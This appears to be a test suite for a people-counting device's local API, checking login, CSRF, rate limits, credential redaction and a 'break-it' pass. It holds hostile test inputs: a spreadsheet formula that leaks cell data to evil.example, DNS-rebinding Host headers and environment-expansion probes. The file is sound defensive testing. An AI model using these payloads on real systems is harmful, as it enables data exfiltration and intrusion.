import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { hostname, tmpdir } from "node:os";
import { join } from "node:path";
import { pino } from "pino";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { intervalCsvRows } from "../edge/api/history.ts";
import { type ApiSource, buildApi } from "../edge/api/server.ts";
import type { SourceState } from "../edge/capture/source.ts";
import { geometryRevision, saveGeometry } from "../edge/config/edit.ts";
import { parseConfig, redactConfig } from "../edge/config/load.ts";
import type { SetupState } from "../edge/domain/live.ts";
import { Redactor } from "../edge/domain/redact.ts";
import type { IntervalCounts } from "../edge/domain/types.ts";
import { Pipeline } from "../edge/pipeline/pipeline.ts";
import type { StatusMessage } from "../edge/publish/messages.ts";
import { SetupMode, setupOptionsFrom } from "../edge/setup/setup-mode.ts";
import { CountStore } from "../edge/store/store.ts";

// The API over its narrow source: a real configuration, a real SQLite history and a real redactor;
// the source's live values are set by each test.
const config = parseConfig(
  {
    device: { id: "api-1", location: { latitude: 56.15, longitude: 10.2 } },
    camera: { source: "rtsp://admin:CamSecret-42@10.0.0.9/stream1" },
    mqtt: { url: "mqtt://counter:MqttSecret-9@broker.example:1883" },
    api: { host: "0.0.0.0", port: 8080, token: "a-long-enough-token-123" },
  },
  "api.yaml",
  {},
);
const redactor = Redactor.for(config);
const auth = { authorization: "Bearer a-long-enough-token-123" };

let store: CountStore;
// the device's file as `counter run` was given it, and its counting pipeline
const configFile = join(mkdtempSync(join(tmpdir(), "api-conf-")), "device.yaml");
writeFileSync(
  configFile,
  "# pole 7\ndevice: { id: api-1, location: { latitude: 56.15, longitude: 10.2 } }\ncamera: { source: clip.mp4 }\nlines: []\n",
);
const pipeline = Pipeline.fromConfig(config);
pipeline.begin(0);
const closedAtChange: IntervalCounts[] = [];
const live: {
  model: string | null;
  camera: SourceState | undefined;
  broker: { enabled: boolean; connected: boolean; lastError: string | null };
  databaseError: string | null;
  scene: StatusMessage["scene"];
} = {
  model: null,
  camera: undefined,
  broker: { enabled: true, connected: true, lastError: null },
  databaseError: null,
  scene: undefined,
};

const source: ApiSource = {
  history: { deviceId: "api-1", database: () => store, databaseError: () => live.databaseError },
  model: () => live.model,
  camera: () => live.camera,
  broker: () => live.broker,
  outboxDepth: () => 3,
  metrics: async () => ({
    contentType: "text/plain; version=0.0.4",
    text: "counter_frames_processed_total 7\n",
  }),
  // a status that quotes the camera URL, as ffmpeg's errors do: the API must not pass it on
  status: () =>
    ({ lastError: `cannot open ${config.camera.source}`, scene: live.scene }) as unknown as StatusMessage,
  redactedConfig: () => redactConfig(config),
  geometry: () => ({ ...pipeline.currentGeometry, revision: geometryRevision(configFile) }),
  saveGeometry: (edit, revision) => {
    const saved = saveGeometry(configFile, edit, {}, revision);
    closedAtChange.push(
      ...pipeline.replaceGeometry(
        { lines: saved.lines, zones: saved.zones, anchor: saved.counting.anchor },
        1_000,
      ),
    );
    return {
      lines: saved.lines,
      zones: saved.zones,
      anchor: saved.counting.anchor,
      revision: geometryRevision(configFile),
    };
  },
  // set-up mode for a few seconds at most, so that a test sees it end by itself
  setup: new SetupMode({ ...setupOptionsFrom(config), maxMinutes: 0.05 }, (s) => setupChanges.push(s)),
  liveCounts: () => ({ totals: [], today: [], occupancy: [], processedFps: 0 }),
};
const setupChanges: SetupState[] = [];
/** The API's audit lines, as pino writes them. */
const auditLines: Record<string, unknown>[] = [];
const app = buildApi({
  source,
  host: config.api.host,
  token: config.api.token,
  redact: (t) => redactor.text(t),
  loginPerMinute: 4,
  allowedHosts: ["pole-7.city.example"],
  log: pino({ level: "info" }, { write: (line: string) => auditLines.push(JSON.parse(line)) }),
});

beforeAll(() => {
  store = new CountStore(join(mkdtempSync(join(tmpdir(), "api-")), "counts.db"));
});
afterAll(async () => {
  await app.close();
  store.close();
});

const cameraUp: SourceState = {
  state: "up",
  sinceMs: Date.UTC(2026, 11, 2, 8),
  lastError: null,
  restarts: 0,
  framesDropped: 0,
  framesCorrupt: 0,
} as SourceState;

describe("local API over its source (fastify.inject, no runtime)", () => {
  it("off loopback, everything but /health needs the bearer token", async () => {
    expect((await app.inject("/health")).statusCode).toBe(503);
    for (const [i, url] of ["/api/counts", "/metrics", "/api/status", "/api/config"].entries()) {
      expect((await app.inject(url)).statusCode).toBe(401);
      // each wrong token from its own address: one address's guesses are limited (next test)
      const wrong = { url, headers: { authorization: "Bearer wrong" }, remoteAddress: `192.0.2.${i + 1}` };
      expect((await app.inject(wrong)).statusCode).toBe(401);
      expect((await app.inject({ url, headers: auth })).statusCode).toBe(200);
    }
  });

  it("wrong bearer tokens are limited per address like logins: past the limit even the right one waits", async () => {
    const from = { remoteAddress: "198.51.100.7" };
    const codes: number[] = [];
    for (let i = 0; i < 6; i++)
      codes.push(
        (await app.inject({ url: "/api/status", headers: { authorization: `Bearer guess-${i}` }, ...from }))
          .statusCode,
      );
    expect(codes).toEqual([401, 401, 401, 401, 429, 429]);
    const right = await app.inject({ url: "/api/status", headers: auth, ...from });
    expect(right.statusCode).toBe(429);
    expect(Number(right.headers["retry-after"])).toBeGreaterThan(0);
    // another address is not held up by these guesses
    expect(
      (await app.inject({ url: "/api/status", headers: auth, remoteAddress: "198.51.100.8" })).statusCode,
    ).toBe(200);
  });

  it.each([
    ["no model yet", null, undefined, { enabled: true, connected: true }, null, 503, "not-ready"],
    [
      "counting, broker connected",
      "yolox-nano",
      cameraUp,
      { enabled: true, connected: true },
      null,
      200,
      "ok",
    ],
    [
      "counting, broker away",
      "yolox-nano",
      cameraUp,
      { enabled: true, connected: false },
      null,
      200,
      "degraded",
    ],
    ["counting, MQTT off", "yolox-nano", cameraUp, { enabled: false, connected: false }, null, 200, "ok"],
    [
      "counting, database broken",
      "yolox-nano",
      cameraUp,
      { enabled: true, connected: true },
      "disk full",
      200,
      "degraded",
    ],
    [
      "camera down",
      "yolox-nano",
      { ...cameraUp, state: "down" },
      { enabled: true, connected: true },
      null,
      503,
      "not-ready",
    ],
  ] as const)("/health: %s", async (_name, model, camera, broker, databaseError, code, status) => {
    Object.assign(live, { model, camera, broker: { ...broker, lastError: null }, databaseError });
    const r = await app.inject("/health");
    expect(r.statusCode).toBe(code);
    expect(JSON.parse(r.body)).toMatchObject({ status, ready: code === 200, outboxDepth: 3 });
  });

  it("/health: a counter that cannot see is degraded and says what it cannot see", async () => {
    Object.assign(live, {
      model: "yolox-nano",
      camera: cameraUp,
      broker: { enabled: true, connected: true, lastError: null },
      databaseError: null,
    });
    live.scene = { states: [], since: null, learning: false };
    expect(JSON.parse((await app.inject("/health")).body)).toMatchObject({ status: "ok" });
    live.scene = { states: ["dark", "frozen"], since: "2026-12-07T22:00:00.000Z", learning: false };
    const r = await app.inject("/health");
    expect(r.statusCode).toBe(200);
    expect(JSON.parse(r.body)).toMatchObject({
      status: "degraded",
      ready: true,
      scene: { states: ["dark", "frozen"], since: "2026-12-07T22:00:00.000Z", learning: false },
    });
    live.scene = undefined;
  });

  it("no response shows a credential, even where the source quotes one", async () => {
    for (const url of ["/api/status", "/api/config", "/health", "/metrics"]) {
      const body = (await app.inject({ url, headers: auth })).body;
      for (const secret of ["CamSecret-42", "MqttSecret-9", "a-long-enough-token-123"])
        expect(body).not.toContain(secret);
    }
    const cfg = JSON.parse((await app.inject({ url: "/api/config", headers: auth })).body);
    expect(cfg.api.token).toBe("***");
    expect(JSON.parse((await app.inject({ url: "/api/status", headers: auth })).body).lastError).toContain(
      "rtsp://***@10.0.0.9",
    );
  });

  it("history: bad parameters are named; a missing database is a 503 with the reason", async () => {
    expect((await app.inject({ url: "/api/counts?from=yesterday", headers: auth })).body).toMatch(
      /from: expected an ISO 8601 time/,
    );
    expect((await app.inject({ url: "/api/counts?format=xml", headers: auth })).statusCode).toBe(400);
    const empty = await app.inject({ url: "/api/counts", headers: auth });
    expect(JSON.parse(empty.body).intervals).toEqual([]);
    live.databaseError = "no space left on device";
    const saved = store;
    store = undefined as unknown as CountStore;
    const r = await app.inject({ url: "/api/counts", headers: auth });
    store = saved;
    live.databaseError = null;
    expect(r.statusCode).toBe(503);
    expect(JSON.parse(r.body).detail).toBe("no space left on device");
  });

  it("set-up: new lines are validated, saved to the device file and applied while counting", async () => {
    expect(JSON.parse((await app.inject({ url: "/api/geometry", headers: auth })).body).lines).toEqual([]);
    const lines = [
      {
        name: "gate",
        points: [
          [0.5, 1],
          [0.5, 0],
        ],
        from: "west",
        to: "east",
      },
    ];
    const put = await app.inject({
      method: "PUT",
      url: "/api/geometry",
      headers: auth,
      payload: { lines, zones: [] },
    });
    expect(put.statusCode).toBe(200);
    expect(JSON.parse(put.body).lines[0]).toMatchObject(lines[0] as object);
    // in the file (comment kept) and in the running pipeline (into intervals from the next one on)
    expect(readFileSync(configFile, "utf8")).toMatch(/^# pole 7[\s\S]*name: gate/);
    expect(pipeline.currentGeometry.lines.map((l) => l.name)).toEqual(["gate"]);
    expect(closedAtChange).toEqual([]);
    expect(pipeline.snapshot(2_000)?.quality.geometryChanged).toBe(false);
    expect(JSON.parse((await app.inject({ url: "/api/geometry", headers: auth })).body).lines[0].name).toBe(
      "gate",
    );
  });

  it("set-up: an invalid line is refused with its path, nothing saved or applied; the token is required", async () => {
    const before = readFileSync(configFile, "utf8");
    const bad = await app.inject({
      method: "PUT",
      url: "/api/geometry",
      headers: auth,
      payload: { lines: [{ name: "x", points: [[2, 0]] }], zones: [] },
    });
    expect(bad.statusCode).toBe(400);
    expect(JSON.parse(bad.body).problems.join("\n")).toMatch(/lines\[0\]\.points/);
    expect(readFileSync(configFile, "utf8")).toBe(before);
    expect(pipeline.currentGeometry.lines.map((l) => l.name)).toEqual(["gate"]);
    const anonymous = await app.inject({
      method: "PUT",
      url: "/api/geometry",
      payload: { lines: [], zones: [] },
    });
    expect(anonymous.statusCode).toBe(401);
  });
});

/** The value of a Set-Cookie header as a Cookie header. */
function cookieOf(setCookie: string | string[] | undefined): string {
  const first = Array.isArray(setCookie) ? setCookie[0] : setCookie;
  return (first ?? "").split(";", 1)[0] ?? "";
}

describe("the page's login, CSRF and set-up mode (off loopback)", () => {
  it("login with the token sets an HttpOnly, SameSite=Strict session cookie; writes need its CSRF token", async () => {
    const wrong = await app.inject({
      method: "POST",
      url: "/api/login",
      payload: { token: "not-the-token-at-all" },
    });
    expect(wrong.statusCode).toBe(401);
    expect(wrong.headers["set-cookie"]).toBeUndefined();
    const login = await app.inject({
      method: "POST",
      url: "/api/login",
      payload: { token: "a-long-enough-token-123" },
    });
    expect(login.statusCode).toBe(200);
    const setCookie = String(login.headers["set-cookie"]);
    expect(setCookie).toMatch(/HttpOnly/);
    expect(setCookie).toMatch(/SameSite=Strict/);
    expect(setCookie).toMatch(/Max-Age=\d+/);
    const cookie = cookieOf(login.headers["set-cookie"]);
    const { csrf } = JSON.parse(login.body) as { csrf: string };
    // the session reads what the token reads, and says who it is
    expect((await app.inject({ url: "/api/config", headers: { cookie } })).statusCode).toBe(200);
    expect(JSON.parse((await app.inject({ url: "/api/session", headers: { cookie } })).body)).toMatchObject({
      loginRequired: true,
      authenticated: true,
      csrf,
    });
    const { revision } = JSON.parse((await app.inject({ url: "/api/geometry", headers: { cookie } })).body);
    const edit = { lines: [], zones: [], revision };
    const noCsrf = await app.inject({
      method: "PUT",
      url: "/api/geometry",
      headers: { cookie },
      payload: edit,
    });
    expect(noCsrf.statusCode).toBe(403);
    const badCsrf = await app.inject({
      method: "PUT",
      url: "/api/geometry",
      headers: { cookie, "x-csrf-token": "guessed" },
      payload: edit,
    });
    expect(badCsrf.statusCode).toBe(403);
    const ok = await app.inject({
      method: "PUT",
      url: "/api/geometry",
      headers: { cookie, "x-csrf-token": csrf },
      payload: edit,
    });
    expect(ok.statusCode).toBe(200);
    // logged out: the cookie is worth nothing
    await app.inject({ method: "POST", url: "/api/logout", headers: { cookie, "x-csrf-token": csrf } });
    expect((await app.inject({ url: "/api/config", headers: { cookie } })).statusCode).toBe(401);
  });

  it("bodies the routes do not take are refused with the field named", async () => {
    const setup = await app.inject({
      method: "POST",
      url: "/api/setup",
      headers: auth,
      payload: { active: "yes" },
    });
    expect(setup.statusCode).toBe(400);
    expect(setup.body).toMatch(/active/);
    const login = await app.inject({
      method: "POST",
      url: "/api/login",
      remoteAddress: "10.9.9.7",
      payload: {},
    });
    expect(login.statusCode).toBe(400);
    expect(login.body).toMatch(/token/);
    const geometry = await app.inject({
      method: "PUT",
      url: "/api/geometry",
      headers: auth,
      payload: { lines: [], zones: [], colour: "red" },
    });
    expect(geometry.statusCode).toBe(400);
    // a form post from another site's page (no JSON) is not a write either
    const form = await app.inject({
      method: "POST",
      url: "/api/setup",
      headers: { ...auth, "content-type": "text/plain" },
      payload: "active=true",
    });
    expect(form.statusCode).toBeGreaterThanOrEqual(400);
    expect((source.setup as SetupMode).status().active).toBe(false);
  });

  it("login is rate-limited per client", async () => {
    const codes: number[] = [];
    for (let i = 0; i < 6; i++)
      codes.push(
        (
          await app.inject({
            method: "POST",
            url: "/api/login",
            remoteAddress: "10.9.9.9",
            payload: { token: `guess-${i}` },
          })
        ).statusCode,
      );
    expect(codes.slice(0, 4)).toEqual([401, 401, 401, 401]);
    expect(codes.slice(4)).toEqual([429, 429]);
    // another address is not held up by it
    const other = await app.inject({
      method: "POST",
      url: "/api/login",
      remoteAddress: "10.9.9.8",
      payload: { token: "x" },
    });
    expect(other.statusCode).toBe(401);
  });

  it("two saves from the same revision: the second gets a conflict, not a lost update", async () => {
    const { revision } = JSON.parse((await app.inject({ url: "/api/geometry", headers: auth })).body);
    const line = (name: string) => ({
      name,
      points: [
        [0.2, 0.5],
        [0.8, 0.5],
      ],
      from: "north",
      to: "south",
    });
    const [first, second] = await Promise.all([
      app.inject({
        method: "PUT",
        url: "/api/geometry",
        headers: auth,
        payload: { lines: [line("first")], zones: [], revision },
      }),
      app.inject({
        method: "PUT",
        url: "/api/geometry",
        headers: auth,
        payload: { lines: [line("second")], zones: [], revision },
      }),
    ]);
    expect([first.statusCode, second.statusCode].sort()).toEqual([200, 409]);
    const winner = first.statusCode === 200 ? "first" : "second";
    expect(readFileSync(configFile, "utf8")).toContain(`name: ${winner}`);
    expect(pipeline.currentGeometry.lines.map((l) => l.name)).toEqual([winner]);
    const loser = first.statusCode === 409 ? first : second;
    expect(JSON.parse(loser.body).revision).toBe(geometryRevision(configFile));
  });

  it("the counted point of the boxes (counting.anchor) is saved and applied with the lines", async () => {
    const { revision, lines } = JSON.parse((await app.inject({ url: "/api/geometry", headers: auth })).body);
    const bad = await app.inject({
      method: "PUT",
      url: "/api/geometry",
      headers: auth,
      payload: { lines, zones: [], anchor: "feet", revision },
    });
    expect(bad.statusCode).toBe(400);
    expect(JSON.parse(bad.body).problems.join("\n")).toMatch(/counting\.anchor/);
    expect(pipeline.currentGeometry.anchor).toBe("bottom-center");
    const ok = await app.inject({
      method: "PUT",
      url: "/api/geometry",
      headers: auth,
      payload: { lines, zones: [], anchor: "center", revision },
    });
    expect(ok.statusCode).toBe(200);
    expect(JSON.parse(ok.body).anchor).toBe("center");
    expect(pipeline.currentGeometry.anchor).toBe("center");
    expect(readFileSync(configFile, "utf8")).toMatch(/counting:\s+anchor: center/);
  });

  it("set-up mode: preview and live positions only while on; it goes off by itself and says so", async () => {
    expect((await app.inject({ url: "/api/setup/background.jpg", headers: auth })).statusCode).toBe(403);
    expect((await app.inject({ url: "/api/setup/live", headers: auth })).statusCode).toBe(403);
    const on = await app.inject({
      method: "POST",
      url: "/api/setup",
      headers: auth,
      payload: { active: true },
    });
    expect(on.statusCode).toBe(200);
    const status = JSON.parse(on.body);
    expect(status).toMatchObject({ active: true, samples: 0 });
    expect(Date.parse(status.until) - Date.parse(status.since)).toBe(3000);
    expect(setupChanges.at(-1)?.active).toBe(true);
    // too few samples: not ready, and it says how many it has
    const early = await app.inject({ url: "/api/setup/background.jpg", headers: auth });
    expect(early.statusCode).toBe(503);
    const setup = source.setup as SetupMode;
    const grey = Buffer.alloc(64 * 48 * 3, 90);
    for (let i = 0; i < 5; i++) {
      expect(setup.wantsSample(i * 10_000)).toBe(true);
      await setup.sample(
        { kind: "rgb", data: grey, width: 64, height: 48 },
        { width: 640, height: 480, tsMs: i * 10_000 },
        [],
      );
    }
    const image = await app.inject({ url: "/api/setup/background.jpg", headers: auth });
    expect(image.statusCode).toBe(200);
    expect(image.headers["content-type"]).toBe("image/jpeg");
    expect(image.rawPayload.subarray(0, 2)).toEqual(Buffer.from([0xff, 0xd8]));
    // maxMinutes (3 s here) later it is off, the samples gone, the change announced
    await vi.waitFor(() => expect(setup.status().active).toBe(false), { timeout: 15_000, interval: 100 });
    expect(setup.status().samples).toBe(0);
    expect(setupChanges.at(-1)).toEqual({ active: false, since: null, until: null });
    expect((await app.inject({ url: "/api/setup/background.jpg", headers: auth })).statusCode).toBe(403);
    expect(JSON.parse((await app.inject({ url: "/api/setup", headers: auth })).body).active).toBe(false);
  });

  it("the page is served without a login, from this device only, with a strict content policy", async () => {
    const html = await app.inject("/");
    expect(html.statusCode).toBe(200);
    expect(html.headers["content-type"]).toMatch(/text\/html/);
    expect(String(html.headers["content-security-policy"])).toMatch(/default-src 'self'/);
    const js = await app.inject("/page/app.js");
    const css = await app.inject("/page/app.css");
    expect(js.statusCode).toBe(200);
    expect(css.statusCode).toBe(200);
    // nothing from elsewhere: no URL of another host in the page's code
    expect(js.body + html.body).not.toMatch(/https?:\/\/(?!www\.w3\.org)[a-z]/i);
    expect(js.rawPayload.length + css.rawPayload.length).toBeLessThanOrEqual(150 * 1024);
  }, 60_000);
});

describe("what a break-it pass found (DNS rebinding, environment, CSV, sizes, queries, audit)", () => {
  const line = (from: string, to = "east", name = "gate") => ({
    name,
    points: [
      [0.5, 0],
      [0.5, 1],
    ],
    from,
    to,
  });
  const put = (payload: unknown, headers: Record<string, string> = {}) =>
    app.inject({
      method: "PUT",
      url: "/api/geometry",
      headers: { ...auth, ...headers },
      payload: payload as object,
    });

  it("a request naming a host that is not this device's is refused; IP addresses, localhost, its own and listed names are not", async () => {
    for (const host of [
      "evil.example",
      "evil.example:8080",
      "localhost.evil.example",
      "127.0.0.1.nip.io:8080",
    ]) {
      const r = await app.inject({ url: "/api/config", headers: { ...auth, host } });
      expect(r.statusCode, host).toBe(403);
      expect(r.body).toMatch(/api\.allowedHosts/);
    }
    for (const host of [
      "127.0.0.1:8080",
      "[::1]:8080",
      "10.0.0.7",
      "localhost:8080",
      hostname(),
      `${hostname()}.local:80`,
      "POLE-7.city.example:8080",
    ])
      expect((await app.inject({ url: "/api/config", headers: { ...auth, host } })).statusCode, host).toBe(
        200,
      );
    // the health check answers whatever name it is asked by (a load balancer's, a container's)
    expect((await app.inject({ url: "/health", headers: { host: "evil.example" } })).statusCode).not.toBe(
      403,
    );
  });

  it("a write or read from another site's page (Origin) is refused, the page's own origin is not", async () => {
    const rev = JSON.parse((await app.inject({ url: "/api/geometry", headers: auth })).body).revision;
    const foreign = await put(
      { lines: [line("west")], zones: [], revision: rev },
      { origin: "http://evil.example" },
    );
    expect(foreign.statusCode).toBe(403);
    expect((await app.inject({ url: "/api/config", headers: { ...auth, origin: "null" } })).statusCode).toBe(
      403,
    );
    const own = await app.inject({
      url: "/api/config",
      headers: { ...auth, host: "127.0.0.1:8080", origin: "http://127.0.0.1:8080" },
    });
    expect(own.statusCode).toBe(200);
  });

  it("${NAME} in a side's name is not read from the environment: it is refused as written, without saying whether NAME exists", async () => {
    for (const side of ["${HOME}", "${NO_SUCH_VARIABLE_42}"]) {
      const r = await put({ lines: [line(side)], zones: [] });
      expect(r.statusCode, side).toBe(400);
      const body = r.body;
      expect(body).toMatch(/lines\[0\]\.from: no control characters or \$/);
      expect(body).not.toMatch(/environment variable|not set/);
      if (process.env.HOME) expect(body).not.toContain(`"${process.env.HOME}"`);
    }
  });

  it("side names a spreadsheet would run as formulas are refused, and CSV cells that start like one are defused", async () => {
    for (const side of ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "@SUM(1,2)", "-2+3", " =1"])
      expect((await put({ lines: [line(side)], zones: [] })).statusCode, side).toBe(400);
    expect(
      (await put({ lines: [line("Nørrebro (north)", "Søndergade/centre")], zones: [] })).statusCode,
    ).toBe(200);
    // a history written before these rules still downloads safely
    const csv = intervalCsvRows({
      deviceId: "api-1",
      startMs: 0,
      endMs: 60_000,
      partial: false,
      quality: { coverageSec: 60 } as IntervalCounts["quality"],
      lines: [
        {
          line: "gate",
          from: '=HYPERLINK("http://evil.example/?"&A1,"x")',
          to: "@SUM(1,2)",
          mode: "pedestrian",
          count: 3,
        },
      ],
      zones: [],
    });
    expect(csv).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")","'@SUM(1,2)",pedestrian,3,`);
  });

  it("sizes are bounded: 10,000 lines, a 100 KB side name and a 900 KB body are refused, and no answer echoes them back", async () => {
    const lines = (n: number) => Array.from({ length: n }, (_, i) => line("west", "east", `g${i}`));
    const tooMany = await put({ lines: lines(51), zones: [] });
    expect(tooMany.statusCode).toBe(400);
    expect(tooMany.body).toMatch(/lines: expected at most 50 lines, got 51/);
    expect(tooMany.body.length).toBeLessThan(4096);
    expect((await put({ lines: lines(10_000), zones: [] })).statusCode).toBe(413);
    const long = await put({ lines: [line("w".repeat(100_000))], zones: [] });
    expect(long.statusCode).toBe(400);
    expect(long.body).toMatch(/lines\[0\]\.from: expected at most 64 characters, got 100000/);
    expect(long.body.length).toBeLessThan(4096);
    const huge = await put({ lines: [line("w".repeat(900_000))], zones: [] });
    expect(huge.statusCode).toBe(413);
    expect(huge.body.length).toBeLessThan(4096);
  });

  it("times beyond what a date can hold and unknown query parameters are a 400 naming them, not a 500 or ignored", async () => {
    const far = await app.inject({ url: "/api/counts?to=99999999999999999999&resolution=1d", headers: auth });
    expect(far.statusCode).toBe(400);
    expect(far.body).toMatch(/to: expected an ISO 8601 time/);
    for (const url of [
      "/api/counts?frmo=2026-01-01",
      "/api/status?x=1",
      "/api/geometry?debug=1",
      "/health?verbose",
    ]) {
      const r = await app.inject({ url, headers: auth });
      expect(r.statusCode, url).toBe(400);
      expect(r.body, url).toMatch(/must NOT have additional properties/);
    }
  });

  it("a second break-it pass: the anchor takes no environment, keys and URLs are not echoed, nesting is bounded, Host is parsed strictly", async () => {
    for (const anchor of ["${HOME}", "${NO_SUCH_VARIABLE_42}"]) {
      const r = await put({ lines: [], zones: [], anchor });
      expect(r.statusCode, anchor).toBe(400);
      expect(r.body).toMatch(/counting\.anchor: expected one of/);
      expect(r.body).not.toMatch(/environment variable|not set/);
      if (process.env.HOME) expect(r.body).not.toContain(`"${process.env.HOME}"`);
    }
    const longKey = await put({ lines: [{ ...line("west"), ["k".repeat(100_000)]: 1 }], zones: [] });
    expect(longKey.statusCode).toBe(400);
    expect(longKey.body.length).toBeLessThan(4096);
    const deep = `${"[".repeat(50_000)}1${"]".repeat(50_000)}`;
    const nested = await app.inject({
      method: "PUT",
      url: "/api/geometry",
      headers: { ...auth, "content-type": "application/json" },
      payload: `{"lines":[],"zones":[],"anchor":${deep}}`,
    });
    expect(nested.statusCode).toBe(400);
    expect(nested.body).toMatch(/counting\.anchor: nested deeper than 8 levels/);
    const lost = await app.inject({ url: `/${"a".repeat(15_000)}`, headers: auth });
    expect(lost.statusCode).toBe(404);
    expect(lost.body.length).toBeLessThan(200);
    // an unknown route is still behind the Host check
    expect((await app.inject({ url: "/nope", headers: { ...auth, host: "evil.example" } })).statusCode).toBe(
      403,
    );
    expect((await put({ lines: [line("\u0085=1")], zones: [] })).statusCode).toBe(400);
    for (const host of ["[::1]evil.example", "[::1", "127.0.0.1:8080, evil.example", "127.0.0.1:8080 evil"])
      expect((await app.inject({ url: "/api/config", headers: { ...auth, host } })).statusCode, host).toBe(
        403,
      );
  });

  it("wrong logins and wrong bearer tokens from one address count together", async () => {
    const from = { remoteAddress: "203.0.113.9" };
    const codes: number[] = [];
    for (let i = 0; i < 2; i++)
      codes.push(
        (await app.inject({ url: "/api/status", headers: { authorization: `Bearer guess-${i}` }, ...from }))
          .statusCode,
      );
    for (let i = 0; i < 3; i++)
      codes.push(
        (await app.inject({ method: "POST", url: "/api/login", payload: { token: `guess-${i}` }, ...from }))
          .statusCode,
      );
    expect(codes).toEqual([401, 401, 401, 401, 429]);
  });

  it("saves and set-up switches leave an audit line: who, from where, what changed", async () => {
    const before = auditLines.length;
    const rev = JSON.parse((await app.inject({ url: "/api/geometry", headers: auth })).body).revision;
    expect(
      (await put({ lines: [line("west", "east", "audited")], zones: [], revision: rev })).statusCode,
    ).toBe(200);
    expect(
      (await app.inject({ method: "POST", url: "/api/setup", headers: auth, payload: { active: true } }))
        .statusCode,
    ).toBe(200);
    expect(
      (await app.inject({ method: "POST", url: "/api/setup", headers: auth, payload: { active: false } }))
        .statusCode,
    ).toBe(200);
    const lines = auditLines.slice(before);
    expect(lines.map((l) => l.msg)).toEqual(["lines and zones saved", "set-up mode on", "set-up mode off"]);
    // a refused save is recorded too, whatever refused it (the configuration, the body's schema, its size)
    expect((await put({ lines: [line("=1")], zones: [] })).statusCode).toBe(400);
    expect(auditLines.at(-1)).toMatchObject({
      msg: "lines and zones not saved",
      refused: 400,
      from: "127.0.0.1",
    });
    expect((await put({ lines: [], zones: [], extra: 1 })).statusCode).toBe(400);
    expect((await put({ lines: [], zones: [], revision: "r".repeat(300_000) })).statusCode).toBe(413);
    expect(auditLines.slice(-2).map((l) => l.refused)).toEqual([400, 413]);
    expect(JSON.stringify(auditLines.slice(-2)).length).toBeLessThan(1000);
    expect(lines[0]).toMatchObject({
      by: "bearer token",
      from: "127.0.0.1",
      added: ["audited"],
      lines: ["audited"],
    });
    expect(JSON.stringify(lines)).not.toContain("a-long-enough-token-123");
  });
});
